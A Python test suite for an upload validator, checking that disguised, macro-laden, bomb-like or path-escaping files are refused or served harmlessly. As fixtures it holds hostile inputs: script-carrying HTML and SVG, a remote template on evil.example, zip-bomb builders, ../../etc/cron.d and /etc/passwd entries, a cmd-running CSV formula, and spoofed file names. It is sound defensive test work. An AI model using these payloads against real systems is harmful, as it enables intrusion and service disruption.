"""Files made to do harm: each is refused, or kept as what it says it is and handed out in a way that can't do any."""

import io
import zipfile
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from werkzeug.http import parse_options_header

from engine import files
from engine.errors import Refusal
from engine.files import FileContentRefused, FileDangerous, FileStore, FileTypeRefused, clean_name
from engine.files.content import media_type_of
from engine.files.tables import MAX_NAME

NOW = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)
MB = 1024 * 1024
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 40
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + b"\0" * 300
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 600
TYPES = b"<Types><Default Extension='xml'/></Types>"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EVERY = [".pdf", ".png", ".gif", ".jpg", ".docx", ".xlsx", ".pptx", ".ofd", ".doc", ".xls", ".zip", ".txt", ".csv"]


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as archive:
        for name, part in parts.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = compression
            archive.writestr(entry, part)
    return content.getvalue()


def docx(parts: dict[str, bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>"} | (parts or {}))


def xlsx(parts: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>"} | parts)


def ofd(parts: dict[str, bytes]) -> bytes:
    return zipped({"OFD.xml": b"<o/>", "Doc_0/Document.xml": b"<d/>"} | parts)


def bomb() -> bytes:
    """A megabyte that would become a gigabyte."""
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": b"\0" * (600 * MB)}, zipfile.ZIP_DEFLATED)


def lying_bomb() -> bytes:
    """Many entries of the directory that all point at the same compressed bytes."""
    one = zipped({"word/document.xml": b"\0" * MB}, zipfile.ZIP_DEFLATED)
    end = one.rindex(b"PK\5\6")
    start = one.index(b"PK\1\2")
    entry, count = one[start:end], 50
    directory = entry * count
    tail = bytearray(one[end:])
    tail[8:12] = count.to_bytes(2, "little") * 2
    tail[12:16] = len(directory).to_bytes(4, "little")
    return one[:start] + directory + bytes(tail)


def encrypted(content: bytes) -> bytes:
    changed = bytearray(content)
    at = changed.rindex(b"PK\1\2")
    changed[at + 8] |= 1
    return bytes(changed)


MACROS_TYPE = b"<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"
REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
UTF16_MACROS = "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 60

REFUSED = {
    "html as pdf": ("a.pdf", HTML, FileContentRefused),
    "html before pdf": ("a.pdf", HTML + PDF, FileContentRefused),
    "svg as png": ("a.png", SVG, FileContentRefused),
    "html as png": ("a.png", HTML, FileContentRefused),
    "html as text": ("a.docx", HTML, FileContentRefused),
    "program as pdf": ("a.pdf", EXE, FileContentRefused),
    "program as docx": ("a.docx", EXE, FileContentRefused),
    "program before docx": ("a.docx", EXE + docx(), FileContentRefused),
    "docx, then html": ("a.docx", docx() + HTML, FileContentRefused),
    "docx, then a second zip": ("a.docx", docx() + zipped({"x.exe": EXE})[:-4], FileContentRefused),
    "pdf as docx": ("a.docx", PDF, FileContentRefused),
    "gif as jpg": ("a.jpg", b"GIF89a" + b"\0" * 30, FileContentRefused),
    "binary as text": ("a.txt", EXE, FileContentRefused),
    "svg": ("a.svg", SVG, FileTypeRefused),
    "svg in capitals": ("a.SVG", SVG, FileTypeRefused),
    "html": ("a.html", HTML, FileTypeRefused),
    "html after pdf": ("a.pdf.html", PDF, FileTypeRefused),
    "program after pdf": ("a.pdf.exe", PDF, FileTypeRefused),
    "right to left": ("report\u202efdp.exe", EXE, FileTypeRefused),
    "an ending behind NUL": ("a.exe\0", EXE, FileTypeRefused),
    "an ending behind dots": ("a.exe. . .", EXE, FileTypeRefused),
    "a stream": ("a.pdf:evil.exe", PDF, FileTypeRefused),
    "full-width dot": ("a．pdf", PDF, FileTypeRefused),
    "macro document": ("a.docm", docx(), FileTypeRefused),
    "shortcut": ("a.lnk", b"L\0\0\0" + b"\0" * 80, FileTypeRefused),
}
REFUSED |= {
    "macros in docx": ("a.docx", docx({"word/vbaProject.bin": b"x"}), FileDangerous),
    "macros under another name": ("a.docx", docx({"[Content_Types].xml": MACROS_TYPE}), FileDangerous),
    "macros told of in relations": (
        "a.docx",
        docx({"word/_rels/x.xml.rels": b"<r Type='vbaProject'/>"}),
        FileDangerous,
    ),
    "template from elsewhere": ("a.docx", docx({"word/_rels/settings.xml.rels": REMOTE}), FileDangerous),
    "active controls": ("a.docx", docx({"word/activeX/activeX1.xml": b""}), FileDangerous),
    "old macros in xlsx": ("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b""}), FileDangerous),
    "macros in xlsx": ("a.xlsx", xlsx({"xl/vbaProject.bin": b""}), FileDangerous),
    "macros in doc": ("a.doc", OLE + "WordDocument".encode("utf-16-le") + b"\0" * 90 + UTF16_MACROS, FileDangerous),
    "macros in xls": ("a.xls", OLE + "Workbook".encode("utf-16-le") + b"\0" * 90 + UTF16_MACROS, FileDangerous),
    "program in docx": ("a.docx", docx({"word/embeddings/run.exe": EXE}), FileDangerous),
    "script in xlsx": ("a.xlsx", xlsx({"xl/x.VBS": b""}), FileDangerous),
    "archive in docx": ("a.docx", docx({"word/embeddings/more.zip": zipped({"a": b""})}), FileDangerous),
    "archive in xlsx": ("a.xlsx", xlsx({"xl/more.rar": b""}), FileDangerous),
    "archive in ofd": ("a.ofd", ofd({"Doc_0/Attachs/more.7z": b""}), FileDangerous),
    "page in ofd": ("a.ofd", ofd({"Doc_0/Attachs/page.html": HTML}), FileDangerous),
    "archive in zip": ("a.zip", zipped({"deeper.zip": zipped({"a": b""})}), FileDangerous),
    "program in zip": ("a.zip", zipped({"setup.exe": EXE}), FileDangerous),
    "a way out of zip": ("a.zip", zipped({"../../etc/cron.d/x": b""}), FileDangerous),
    "a way out of docx": ("a.docx", docx({"../../x.xml": b""}), FileDangerous),
    "an absolute way": ("a.zip", zipped({"/etc/passwd": b""}), FileDangerous),
    "a drive": ("a.zip", zipped({"C:/windows/x.txt": b""}), FileDangerous),
    "encrypted": ("a.zip", encrypted(zipped({"a.txt": b"x"})), FileDangerous),
    "entries on top of each other": ("a.docx", lying_bomb(), FileDangerous),
}

HARMLESS = {
    "pdf, then html": ("a.pdf", PDF + HTML, "application/pdf"),
    "pdf, then zip": ("a.pdf", PDF + zipped({"x.exe": EXE}), "application/pdf"),
    "pdf with a script": (
        "a.pdf",
        PDF + b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "application/pdf",
    ),
    "gif that is a script": ("a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "image/gif"),
    "png, then html": ("a.png", PNG + HTML, "image/png"),
    "png, then zip": ("a.png", PNG + zipped({"x.exe": EXE}), "image/png"),
    "html as text": ("a.txt", HTML, "text/plain"),
    "a formula in csv": ("a.csv", b"=cmd|'/C calc'!A0,1\n", "text/csv"),
    "a name within a name": ("a.exe.pdf", PDF, "application/pdf"),
    "a way out": ("../../../../etc/passwd.pdf", PDF, "application/pdf"),
    "a document in a document": (
        "a.docx",
        docx({"word/embeddings/table.xlsx": b"x"}),
        DOCX,
    ),
}


@pytest.fixture
def store(tmp_path: Path) -> FileStore:
    return FileStore(tmp_path / "files")


def judged(store: FileStore, name: str, content: bytes, accept: list[str]) -> str | None:
    """The media type of an upload by this name, as `files.add` decides it."""
    name = clean_name(name)
    files.content.refuse_ending(name, Path(name).suffix.lower(), accept)
    with store.receive(io.BytesIO(content), 50 * MB) as received:
        media_type = media_type_of(received.path, name)
    if media_type is None:
        raise FileContentRefused(name=name, ending="")
    return media_type


@pytest.mark.parametrize(("name", "content", "refusal"), REFUSED.values(), ids=REFUSED)
def test_what_could_do_harm_is_refused(store: FileStore, name: str, content: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal):
        judged(store, name, content, EVERY)
    assert [path for path in store.root.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(("name", "content", "media_type"), HARMLESS.values(), ids=HARMLESS)
def test_what_can_do_none_is_kept_as_what_it_says(store: FileStore, name: str, content: bytes, media_type: str) -> None:
    assert judged(store, name, content, EVERY) == media_type


def test_a_bomb_is_refused_without_being_unpacked(store: FileStore) -> None:
    content = bomb()
    assert len(content) < MB
    with pytest.raises(FileDangerous):
        judged(store, "a.docx", content, EVERY)


@pytest.mark.parametrize("ending", [".svg", ".html", ".exe", ".js", ".docm", ".hta", ".bat", ".jar"])
def test_what_runs_is_refused_even_where_a_form_asks_for_it(store: FileStore, ending: str) -> None:
    with pytest.raises(FileTypeRefused) as refusal:
        judged(store, f"a{ending}", SVG, [ending, ".pdf"])
    assert "请上传 .pdf 格式" in refusal.value.to("zh")


def test_a_type_browsers_would_show_as_a_page_is_handed_out_as_mere_bytes(store: FileStore) -> None:
    assert files.content._never_shown("application/xhtml+xml") == "application/octet-stream"
    assert files.content._never_shown("image/svg+xml") == "application/octet-stream"
    assert files.content._never_shown("audio/flac") == "audio/flac"


@pytest.mark.parametrize(
    ("given", "clean"),
    [
        ("..\\..\\windows\\a.pdf", "a.pdf"),
        ("/etc/cron.d/a.pdf", "a.pdf"),
        ("file:///etc/a.pdf", "a.pdf"),
        ("\\\\server\\share\\a.pdf", "a.pdf"),
        ("%2e%2e%2fetc%2fa.pdf", "%2e%2e%2fetc%2fa.pdf"),
        ("..%5c..%5ca.pdf", "%5c..%5ca.pdf"),
        ("a.pdf\0.exe", "a.pdf.exe"),
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul"),
        ("com1.tar.pdf", "_com1.tar.pdf"),
        ("LPT9.pdf", "_LPT9.pdf"),
        ("console.pdf", "console.pdf"),
        ("a:b.pdf", "a_b.pdf"),
        ('a"<>|?*.pdf', "a______.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie_ x=1.pdf"),
        ("a\u2066b\u2069\u202e.pdf", "ab.pdf"),
        ("a\u00ad\u180eb.pdf", "ab.pdf"),
        ("a\ufff9\U000e0041b.pdf", "ab.pdf"),
        (".htaccess", "htaccess"),
        ("...pdf", "pdf"),
    ],
)
def test_a_name_is_one_anywhere(given: str, clean: str) -> None:
    assert clean_name(given) == clean


def test_a_name_without_end_is_cut(store: FileStore) -> None:
    clean = clean_name("甲" * 1_000_000 + "." + "x" * 1_000_000)
    assert len(clean) <= MAX_NAME


def test_a_chunk_of_every_character_makes_no_name_that_breaks_a_header() -> None:
    every = "".join(map(chr, [*range(0x500), 0x2028, 0x2029, 0xD800, 0xFFFE, 0x1F600]))
    for start in range(0, len(every), 50):
        name = clean_name("a" + every[start : start + 50] + ".pdf")
        assert not set(name) & set('\0\r\n\t"\\/:<>|?*')
        assert name.encode()


def test_a_stored_part_that_is_broken_is_no_failure_of_ours(store: FileStore) -> None:
    good = zipped({"[Content_Types].xml": TYPES * 50, "word/document.xml": b"x"}, zipfile.ZIP_DEFLATED)
    at = good.index(zlib.compress(TYPES)[2:6]) if zlib.compress(TYPES)[2:6] in good else 60
    broken = good[:at] + b"\xff" * 20 + good[at + 20 :]
    with pytest.raises(FileContentRefused):
        judged(store, "a.docx", broken, EVERY)


def test_a_browser_saves_a_file_under_the_name_we_gave_it() -> None:
    from werkzeug.datastructures import Headers

    for name in ("营业执照.pdf", "a b;c=d.pdf", "a'b.pdf", "%2e%2e%2fa.pdf", "é.pdf"):
        headers = Headers()
        headers.set("Content-Disposition", "attachment", filename=clean_name(name))
        assert parse_options_header(headers["Content-Disposition"]) == ("attachment", {"filename": name})
